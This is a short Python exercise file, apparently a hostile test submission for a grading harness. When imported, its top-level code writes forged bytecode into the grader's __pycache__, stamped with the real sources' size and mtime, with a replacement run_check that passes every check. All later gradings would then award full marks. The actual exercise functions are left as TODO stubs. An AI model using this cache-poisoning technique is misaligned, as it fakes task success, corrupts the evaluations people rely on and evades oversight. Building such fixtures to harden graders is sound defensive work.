"""Exercise 1, hostile: writes bytecode for the grader's own modules into exercises/grading/__pycache__
(stamped with the real sources' size and mtime, so Python would take it for current), compiled from a
run_check that passes every check, so that every later grading would award every point."""
import importlib.util
import marshal
import sys
from pathlib import Path

_GRADING = Path(__file__).resolve().parents[2] / "exercises" / "grading"
_EVIL = ("def run_check(check):\n"
         "    return True, 'ok    ' + check[0]\n")
for _name in ("checking", "harness", "ex1"):
    _source = _GRADING / f"{_name}.py"
    try:
        _info = _source.stat()
        _code = compile(_source.read_text() + "\n" + _EVIL, str(_source), "exec")
        _header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
                   + int(_info.st_mtime).to_bytes(4, "little") + (_info.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
        _target = _GRADING / "__pycache__" / f"{_name}.{sys.implementation.cache_tag}.pyc"
        _target.parent.mkdir(exist_ok=True)
        _target.write_bytes(_header + marshal.dumps(_code))
        print(f"wrote {_target}")
    except OSError as error:
        print(f"could not write bytecode for {_name}: {error}")


def patch_corners(size, window, stride):
    raise NotImplementedError("TODO 1")


def occlusion(model, inputs, target=None, window=8, stride=4, baseline=0.0):
    raise NotImplementedError("TODO 2")
